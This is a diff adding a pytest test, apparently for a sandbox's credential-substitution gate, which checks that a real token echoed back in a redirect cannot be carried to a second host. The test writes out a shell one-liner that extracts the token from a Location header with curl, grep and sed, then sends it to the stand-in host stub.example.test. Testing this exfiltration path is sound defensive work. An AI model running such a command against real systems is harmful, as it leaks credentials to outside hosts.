@@ -58,3 +58,18 @@ def test_the_real_token_is_not_echoed_back_into_the_step(attacker, how):
         assert stub.requests, "the request never reached the credential's host"
         assert CANARY not in r.stdout + r.stderr, \
             "the real token came back into the sandbox in the credential host's answer"
+
+
+def test_an_echoed_real_token_is_not_carried_to_another_host(attacker):
+    """The chain: the step reads the real token from the echo, then sends it anywhere. The gate
+    looks only for placeholders, never for the real values it swapped in, so the second host
+    receives the real token and the step is not marked."""
+    with servers(_ordinary) as (git, stub):
+        api = _setup(attacker, stub)
+        other = f"https://{hostport(stub, 'stub.example.test')}"
+        attacker.run(f"t=$(curl -s -D - -o /dev/null \"{api}/x?access_token=$MY_TOKEN\" | "
+                     "grep -i '^location:' | sed 's/.*access_token=//' | tr -d '\\r'); "
+                     f"curl -s -o /dev/null \"{other}/?q=$t\"")
+        got = [q for q in stub.requests if q["headers"].get("host", "").startswith("stub.example.test")
+               and CANARY in q["path"]]
+        assert not got, f"the real token reached stub.example.test: {got[0]['path']}"
